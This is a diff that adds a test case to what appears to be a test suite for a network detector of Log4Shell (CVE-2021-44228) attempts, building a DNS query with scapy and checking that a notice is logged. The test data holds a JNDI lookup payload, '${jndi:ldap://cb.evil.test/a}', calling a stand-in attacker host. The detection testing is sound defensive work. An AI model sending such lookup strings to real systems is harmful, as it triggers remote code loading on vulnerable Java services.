@@ -832,6 +832,20 @@ def ldap_java_serialized():
            "hashed); no lookup attempt preceded it, so it opens its own incident", evs, checks)
 
 
+@case
+def dns_jndi_name():
+    """A lookup string inside a DNS question name."""
+    from scapy.layers.dns import DNS, DNSQR
+    c, s, cp, sp = "10.0.0.5", "10.0.0.2", 5353, 53
+    q = bytes(DNS(id=7, rd=1, qd=DNSQR(qname="${jndi:ldap://cb.evil.test/a}.example.com")))
+    evs = [Ev(base(91), udp(c, s, cp, sp, q), True)]
+    checks = [{"log": "notice", "count": 1},
+              {"log": "notice", "fields": {"note": "CVE_2021_44228::LOG4J_ATTEMPT_PAYLOAD", "id.resp_p": "53"}},
+              {"log": "dns", "fields": {"query": "${jndi:ldap://cb.evil.test/a}.example.com"}}]
+    simple("dns-jndi-name", "a JNDI lookup inside a DNS question name (a resolver or a Java service may "
+           "log it): LOG4J_ATTEMPT_PAYLOAD with proto dns and the decoded host", evs, checks)
+
+
 def main():
     names = sys.argv[1:] or sorted(CASES)
     for n in names:
